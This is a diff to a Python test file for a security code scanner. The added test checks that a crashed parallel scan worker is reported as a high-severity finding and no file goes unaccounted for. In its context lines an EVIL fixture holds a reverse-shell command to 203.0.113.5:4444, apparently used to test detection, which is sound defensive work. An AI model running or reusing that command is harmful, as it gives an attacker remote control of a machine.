@@ -18,10 +18,10 @@ from lambdawatch.codescan import cache as cache_mod
 from lambdawatch.codescan import parallel
 from lambdawatch.codescan.cache import ScanCache, file_key, fingerprint
 from lambdawatch.codescan.filejob import FileBudget
-from lambdawatch.codescan.model import CATALOGUE, CheckMeta, Severity
+from lambdawatch.codescan.model import CATALOGUE, CheckMeta, Finding, Severity
 from lambdawatch.codescan.parallel import chunks
 from lambdawatch.codescan.runfiles import ScanOptions
-from lambdawatch.codescan.scanner import CASED_TOKENS, LOWER_TOKENS, scan_bytes
+from lambdawatch.codescan.scanner import CASED_TOKENS, LOWER_TOKENS, scan_bytes, scan_file
 from lambdawatch.codescan.tokens import TokenSet
 
 EVIL = b"import os\nos.system('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1')\n"
@@ -165,3 +165,26 @@ def test_hyperscan_and_substring_prefilters_agree(blob: bytes, expected: bool) -
     assert plain(blob) is expected
     pytest.importorskip("hyperscan")
     assert TokenSet(CASED_TOKENS, LOWER_TOKENS, "hyperscan")(blob) is expected
+
+
+def _dies_on_boom(path: str, data: bytes, vendored: bool, errors: list[str],
+                  parse: bool) -> list[Finding]:
+    if path.endswith("boom.py"):
+        os._exit(3)  # what a segfaulting native parser or the OOM killer does to a worker
+    return scan_file(path, data, vendored, errors, parse=parse)
+
+
+def test_a_dead_worker_costs_its_chunk_only_and_fails_the_gate(
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(parallel, "MIN_PARALLEL_BYTES", 0)
+    monkeypatch.setattr(parallel, "CHUNK_FILES", 1)
+    monkeypatch.setattr(parallel, "_scan_one", _dies_on_boom)  # inherited by forked workers
+    names = [f"app/m{i}.py" for i in range(12)]
+    data = package({**{n: BENIGN for n in names}, "app/boom.py": b"x = 1\n" * 1000})
+    result = scan_bytes("t", "p.zip", data, options=ScanOptions(workers=2))
+    died = {f.file for f in result.findings if f.code == "PK001"}
+    assert "app/boom.py" in died
+    assert all(f.severity == Severity.HIGH and f.message.startswith("scan worker died")
+               for f in result.findings if f.code == "PK001")
+    assert result.files_scanned == 15  # every file is accounted for: scanned or reported
+    assert {e.split(":")[0] for e in result.errors} == died
